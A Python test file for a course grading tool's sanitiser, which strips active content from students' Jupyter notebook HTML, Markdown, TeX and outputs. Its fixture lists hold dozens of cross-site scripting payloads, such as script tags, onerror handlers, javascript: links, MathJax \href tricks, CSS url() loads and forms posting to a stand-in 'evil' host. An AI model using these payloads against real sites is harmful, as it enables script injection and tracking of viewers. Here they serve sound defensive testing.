"""What a student's notebook shows can be read in full, and does nothing."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from course_lib.grading.notebook.harmless import harmless_html, harmless_output, harmless_text

PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n...").decode()
ACTIVE = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "link",
    "meta",
    "base",
    "svg",
    "math",
}
ACTIVE |= {
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "frame",
    "frameset",
    "applet",
    "textarea",
    "title",
}
LOADS = ("src", "srcset", "data", "poster", "background", "action", "formaction", "xlink:href")


class Page(HTMLParser):
    """The oracle: what a browser would see."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.tags.append("!--")

    def handle_decl(self, decl):
        self.tags.append("!")

    def handle_pi(self, data):
        self.tags.append("?")


def dangers(text):
    """All that acts or loads from elsewhere."""
    page = Page(text)
    found = [tag for tag in page.tags if tag in ACTIVE or not tag.isalnum()]
    for tag, name, value in page.attributes:
        link = re.sub(r"[\x00-\x20]", "", value).lower()
        picture = (tag, name) == ("img", "src") and re.match("data:image/(png|jpeg);", link)
        goes = (tag, name) == ("a", "href") and link.startswith(("http://", "https://", "#"))
        if name.startswith("on") or (name in (*LOADS, "href") and not (picture or goes)):
            found.append((tag, name, value))
        if name == "style" and re.search(r"url|position|behavior", value):
            found.append((tag, name, value))
        if name in ("id", "name", "class", "target", "ping"):  # of the page around it
            found.append((tag, name, value))
    return found


ATTACKS = [
    "<script>x()</script>",
    "<ScRiPt src=//evil>",
    "<img src=x onerror=x()>",
    "<img src='http://evil/p.png'>",
    "<img srcset='http://evil/p.png 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    f"<img src='{PNG}' onload=x()>",
    "<svg onload=x()><a xlink:href='javascript:x()'>y</a></svg>",
    "<math><mi xlink:href='javascript:x()'>y</mi></math>",
    "<a href='javascript:x()'>y</a>",
    "<a href=' java\tscript:x()'>y</a>",
    "<a href='&#106;avascript:x()'>y</a>",
    "<a href='data:text/html,<script>x()</script>'>y</a>",
    "<a href='vbscript:x()' target=_top ping='http://evil'>y</a>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data='http://evil'></object><embed src='http://evil'>",
    "<form action='http://evil'><input name=p><button>ok</button></form>",
    "<div style='background:url(http://evil)'>y</div>",
    "<div style='position:fixed;top:0;width:100%'>y</div>",
    "<div style='background-color:url(javascript:x())'>y</div>",
    "<b style='border: 1px solid url(http://evil/p.png)'>y</b>",
    "<b style='color:\\75rl(http://evil/position)'>y</b>",
    "<b style='border-left: image-set(\"http://evil/url\" 1x)'>y</b>",
    "<style>@import 'http://evil'</style>",
    "<link rel=stylesheet href='http://evil'><base href='http://evil'>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<b id='points' class='grade' name='x'>y</b>",
    "<!--[if IE]><script>x()</script><![endif]-->",
    "<?php x() ?><!DOCTYPE x><![CDATA[<script>x()</script>]]>",
    "<noscript><p title='</noscript><script>x()</script>'>",
    "<table background='http://evil'><td background='http://evil'>y</table>",
    "<<script>script>x()<</script>/script>",
    "<img alt='`><script>x()</script>' src=`x`onerror=x()>",
    "<textarea><script>x()</script></textarea>",
    "<details ontoggle=x() open><summary>y</summary></details>",
    "<video poster=http://evil><source src=http://evil onerror=x()></video>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_one_to_the_oracle_and_none_when_cleaned(attack):
    assert dangers(attack)
    assert dangers(harmless_html(attack)) == []
    assert dangers(harmless_text(attack)) == []


PIECES = st.sampled_from(ATTACKS) | st.sampled_from([*"<>\"'`/=& \n\t\0", "<b", "-->", "]]>", "</"])
PIECES |= st.text(max_size=3)


def torn(pieces, cuts):
    """The pieces in one text with some characters taken out."""
    text = "".join(pieces)
    for cut in cuts:
        text = text[: cut % (len(text) + 1)] + text[cut % (len(text) + 1) + 1 :]
    return text


@given(st.lists(PIECES, max_size=6), st.lists(st.integers(0, 200), max_size=4))
def test_no_mixture_of_attacks_is_active(pieces, cuts):
    text = torn(pieces, cuts)
    assert dangers(harmless_html(text)) == []
    assert dangers(harmless_text(text)) == []


@given(st.lists(PIECES, max_size=6), st.lists(st.integers(0, 200), max_size=4))
def test_cleaning_twice_changes_nothing(pieces, cuts):
    once = harmless_html(torn(pieces, cuts))
    assert harmless_html(once) == once
    assert harmless_text(harmless_text(torn(pieces, cuts))) == harmless_text(torn(pieces, cuts))


def test_the_text_of_scripts_and_styles_goes_with_them():
    assert harmless_html("a<script>x = 1</script>b<style>p { color: red }</style>c") == "abc"


def test_a_link_gets_no_more_than_it_had():
    assert harmless_html('<a href="https://a.b">c</a>') == '<a href="https://a.b">c</a>'


# TeX: a formula is text to HTML, and acts once MathJax sets it

TEX_ATTACKS = [
    r"$\href{javascript:x()}{y}$",
    "$\\href{java\nscript:x()}{y}$",
    "$$\\href{java\tscript:x()}{y}$$",
    "\\begin{align}\\href{java&#10;script:x()}{y}\\end{align}",
    r"\\(\\href{javascript:x()}{y}\\)",
    r"&#36;&#92;href{javascript:x()}{y}&#36;",
    r"&#36;&bsol;href{javascript:x()}{y}&#36;",
    r"$\h&#114;ef{javascript:x()}{y}$",
    r"\\(\h&#x72;ef{javascript:x()}{y}\\)",
    r"\\(\h&#x00000072;ef{javascript:x()}{y}\\)",
    r"$\let\a\href \a{javascript:x()}{y}$",
    r"$\mmlToken{mi}[href='javascript:x()']{y}$",
    r"$\style{position:fixed;top:0}{y}$",
    r"$\class{score}{\cssId{points}{y}}$",
    r"$\require{html}\csname href\endcsname{javascript:x()}{y}$",
    r"$\htmlData{x=y}{z} \includegraphics{http://evil/p.png} \url{javascript:x()}$",
    "$\\h<!-- -->ref{javascript:x()}{y}$",
    "$\\h<wbr>ref{javascript:x()}{y}$",
]
ACTS = r"\\(href|url|style|class|cssId|data|mmlToken|require|csname|html\w+|includegraphics)\b"


def macros(html):
    """What MathJax finds: it reads the text of a page, across comments and <wbr>."""
    return re.findall(ACTS, Page(html).text)


@pytest.mark.parametrize("attack", TEX_ATTACKS)
def test_no_macro_acts(attack):
    # As it stands each is one, in a page or in Markdown.
    assert macros(attack) + macros(markdown2html(attack))
    assert macros(markdown2html(harmless_text(attack))) == []
    assert macros(harmless_html(attack)) == []
    assert harmless_text(harmless_text(attack)) == harmless_text(attack)
    assert harmless_html(harmless_html(attack)) == harmless_html(attack)


@pytest.mark.parametrize(
    "tex", [r"$\hrefs$", r"$\hat h \ref{a} \cdot \stylish$", "R&amp;D &#8364; &#233;", r"$\frac12$"]
)
def test_other_tex_and_signs_stay(tex):
    assert harmless_text(tex) == tex


# What stays

TABLE = (
    '<table><caption>t</caption><thead><tr style="text-align: right;"><th></th><th>a</th></tr>'
    '</thead><tbody><tr><th>0</th><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
)


@pytest.mark.parametrize(
    "harmless",
    [
        TABLE,
        f'<img alt="a picture" height="10" src="{PNG}" width="10">',
        '<a href="https://example.org/a?b=1">there</a>',
        "<p>x<sub>1</sub> + x<sup>2</sup> <em>is</em> <strong>big</strong><br>so</p>",
        '<div style="color: red; border-left: 3px solid;">ok</div>',
        "<details><summary>more</summary><pre>code\n  here</pre></details>",
        "∀ε &amp; δ, $a_1 &lt; b$",
    ],
)
def test_tables_pictures_and_text_stay(harmless):
    assert normal(harmless_html(harmless)) == normal(harmless)


def normal(text):
    page = Page(text)
    attributes = [(tag, name, declared(name, value)) for tag, name, value in page.attributes]
    return page.tags, sorted(attributes), page.text


def declared(name, value):
    """A style without the blanks that mean nothing."""
    return re.sub(r"\s*([:;])\s*", r"\1", value).strip(";") if name == "style" else value


@given(st.text(st.characters(exclude_categories=("Cc", "Cs"))))
def test_plain_text_is_shown_as_it_is(text):
    """HTML that says a text says the same text afterwards."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert Page(harmless_html(escaped)).text == Page(escaped).text


MARKDOWN = [
    ("# Title\n\n> a quote, `x < y`, $a < b$", ["Title", "a quote, x < y, $a < b$"]),
    ("> quoted\n> <b", ["quoted\n<b"]),
    ("```python\nif a <b or c<3: print(a<<2)\n```", ["if a <b or c<3: print(a<<2)"]),
    ("    indented <code>", ["indented <code>"]),
    ("| a | b |\n|---|---|\n| 1 < 2 | **3** |", ["1 < 2", "3"]),
    ("$a <b$, $$c <d$$", ["$a <b$, $$c <d$$"]),
    ("1. a\n2. b\n   - c & d", ["a", "b", "c & d"]),
    ("javascript is a language: data: 3 & 4", ["javascript is a language: data: 3 & 4"]),
]


def markdown2html(markdown):
    """As the grading form and the feedback do it, with a picture attached."""
    attachments = {"a.png": {"image/png": PNG.partition(",")[2]}}
    return MarkdownWithMath(IPythonRenderer(escape=False, attachments=attachments)).render(markdown)


def shown(markdown):
    return Page(markdown2html(markdown)).text.replace("\u200b", "")


@pytest.mark.parametrize(("markdown", "says"), MARKDOWN)
def test_markdown_reads_as_before(markdown, says):
    for text in says:
        assert text in shown(harmless_text(markdown))


def test_a_less_than_sign_in_code_and_mathematics_is_not_escaped_twice():
    page = markdown2html(harmless_text("`a <b` and $a<b$"))
    assert "&amp;lt;" not in page
    assert "a <b and $a<b$" in shown(harmless_text("`a <b` and $a<b$"))


MARKDOWN_ATTACKS = [
    "[y](javascript:x())",
    "[y](&#106;avascript:x())",
    "[y](<javascript:x()>)",
    "[y][1]\n\n[1]: javascript:x()",
    "<javascript:x()>",
    "[y](JavaScript:x())",
    "[y]( \n javascript:x())",
    "[y](javascript\\:x())",
    "[y](&#x6A;avascript&colon;x())",
    "[![y](attachment:a.png)](javascript:x())",
    "[y](vbscript:x())",
    "[y](data:text/html;base64,PHNjcmlwdD4=)",
    "![y](javascript:x())",
    "`` ` <script>x()</script>",
    "<script>\nx()\n</script>",
    "<div markdown=1><img src=x onerror=x()></div>",
    "\\<script>x()</script>",
    "**<img src=x onerror=x()>**",
    "$<img src=x onerror=x()>$",
    "<!-- \n--><script>x()</script>",
    "<\n<script>x()</script>",
]


@pytest.mark.parametrize("markdown", MARKDOWN_ATTACKS)
def test_markdown_is_rendered_without_anything_active(markdown):
    assert active(markdown2html(harmless_text(markdown))) == []


def active(html):
    """Dangers but for ids, which the renderer gives to headings, and links it has made harmless."""
    return [
        one
        for one in dangers(html)
        if not (isinstance(one, tuple) and (one[1] in ("id", "class") or "harmful" in one[2]))
    ]


@pytest.mark.parametrize(
    "markdown",
    ["![p](http://evil/p.png)", "![p](//evil/p.png)", "![p][1]\n\n[1]: https://evil/p.png"],
)
def test_markdown_loads_no_picture_from_elsewhere(markdown):
    # As in HTML, it would tell somebody when, and from where, the lecturer looks at it.
    page = markdown2html(harmless_text(markdown))
    assert [one for one in Page(page).attributes if one[1] == "src" and "evil" in one[2]] == []


@pytest.mark.parametrize(
    "markdown",
    [
        "![p](attachment:a.png)",
        "[there](https://example.org)",
        "[up](#title)",
        "[![a](attachment:a.png)](http://c)",
    ],
)
def test_links_and_attached_pictures_stay_in_markdown(markdown):
    assert normal(markdown2html(harmless_text(markdown))) == normal(markdown2html(markdown))


# Outputs

CLEANED = {"text/html": harmless_html, "text/markdown": harmless_text, "text/latex": harmless_text}
SAFE = {*CLEANED, "text/plain", "image/png", "image/jpeg"}
MIMES = [*SAFE, "image/svg+xml", "application/javascript", "application/pdf"]
MIMES += ["application/vnd.jupyter.widget-view+json", "text/x-anything"]


@given(st.dictionaries(st.sampled_from(MIMES), st.sampled_from(ATTACKS) | st.text(max_size=9)))
def test_an_output_keeps_safe_kinds_only_and_cleans_each(data):
    before = {"output_type": "display_data", "data": dict(data), "metadata": {"isolated": True}}
    output = harmless_output(before)
    assert set(output["data"]) == set(data) & SAFE
    for mime, content in output["data"].items():
        assert content == CLEANED.get(mime, str)(data[mime])
    assert output["metadata"] == {}
    assert before["data"] == data


def test_streams_and_errors_stay():
    for output in (
        {"output_type": "stream", "name": "stdout", "text": "<b>"},
        {"output_type": "error", "ename": "E", "evalue": "<b>", "traceback": ["<b>"]},
    ):
        assert harmless_output(output) == output
